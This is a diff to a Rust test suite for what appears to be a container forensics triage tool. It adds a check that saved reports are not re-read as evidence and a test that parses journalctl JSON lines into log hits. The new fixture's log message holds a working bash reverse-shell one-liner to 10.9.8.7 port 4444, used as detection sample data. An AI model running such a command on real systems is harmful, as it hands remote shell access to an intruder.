@@ -134,6 +134,7 @@ fn a_report_saved_inside_the_bundle_is_not_evidence() {
         [("access.log", "text-log"), ("report.json", "ctriage-report"), ("report.txt", "ctriage-report")]
     );
     assert_eq!(b["log_hits"].as_array().unwrap().len(), hits, "the reports' quoted payloads are no hits");
+    assert!(b["artifacts"][1]["note"].as_str().unwrap().contains("never read back as evidence"));
     assert_eq!(b["findings"], first["bundles"][0]["findings"]);
 }
 
@@ -423,4 +424,18 @@ fn diff_image_is_the_analysts_word_with_a_warning_when_unrelated() {
         .iter()
         .any(|x| x["message"].as_str().unwrap().contains("may not be the image this container ran from"));
     assert!(warned, "{:#}", v["diagnostics"]);
+}
+
+#[test]
+fn journalctl_json_lines_are_journal_entries() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = br#"{"__CURSOR":"s=1","__REALTIME_TIMESTAMP":"1764252000000000","PRIORITY":"3","CONTAINER_ID":"69cb52f58d00","CONTAINER_NAME":"web","MESSAGE":"sh -c 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1'"}
+"#;
+    write_files(dir.path(), &[("web.json", log)]);
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    let b = &v["bundles"][0];
+    assert_eq!(b["artifacts"][0]["kind"], "journal-export");
+    let h = &b["log_hits"][0];
+    assert_eq!(h["stream"], "stderr");
+    assert_eq!(h["time"], "2025-11-27T14:00:00.000000000Z");
 }
